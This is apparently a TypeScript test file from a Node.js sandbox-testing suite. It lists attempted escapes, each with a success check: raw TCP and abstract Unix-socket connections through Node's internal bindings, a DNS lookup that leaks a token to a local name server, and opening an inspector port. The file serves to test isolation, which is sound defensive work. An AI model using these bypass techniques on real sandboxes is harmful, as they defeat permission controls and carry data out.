import type { Attack } from "./attack.js";

interface Wrap {
  connect(...args: unknown[]): unknown;
}

/** Node's own parts, some of which are in reach. */
interface Bindings {
  binding(name: string): {
    [Name in "TCP" | "TCPConnectWrap" | "Pipe" | "PipeConnectWrap"]: new (type?: number) => Wrap;
  };
}

/** Attacks that send out what they know. A sandbox's program never comes back to its event loop, so they use what sends at once. */
export const ON_NETWORK: readonly Attack[] = [
  {
    name: "connects to a server on this machine",
    run: ({ tcp }) => {
      const { TCP, TCPConnectWrap } = (process as unknown as Bindings).binding("tcp_wrap");
      return new TCP(0).connect(new TCPConnectWrap(), "127.0.0.1", tcp);
    },
    isSuccess: ({ seen }) => seen.includes("tcp"),
    layers: ["permissions", "network"],
  },
  {
    name: "connects to an address of the network",
    run: ({ tcp, address }) => {
      const { TCP, TCPConnectWrap } = (process as unknown as Bindings).binding("tcp_wrap");
      return new TCP(0).connect(new TCPConnectWrap(), address, tcp);
    },
    isSuccess: ({ seen }) => seen.includes("tcp"),
    layers: ["permissions", "network"],
  },
  {
    name: "connects to an abstract Unix socket",
    run: ({ abstract }) => {
      const { Pipe, PipeConnectWrap } = (process as unknown as Bindings).binding("pipe_wrap");
      return new Pipe(0).connect(new PipeConnectWrap(), `\0${abstract}`);
    },
    isSuccess: ({ seen }) => seen.includes("abstract"),
    layers: ["permissions", "network"],
  },
  {
    name: "tells a name server, without any permission that node asks for",
    run: ({ udp, token }) => {
      const { Resolver } = process.getBuiltinModule("node:dns");
      const resolver = new Resolver();
      resolver.setServers([`127.0.0.1:${udp}`]);
      resolver.resolve4(`${token}.example`, () => undefined);
    },
    isSuccess: ({ seen }) => seen.includes("udp"),
    layers: ["network"],
  },
  {
    name: "opens an inspector's port",
    run: () => {
      const inspector = process.getBuiltinModule("node:inspector");
      inspector.open(0, "127.0.0.1");
      return inspector.url() !== undefined;
    },
    layers: ["permissions"],
  },
];
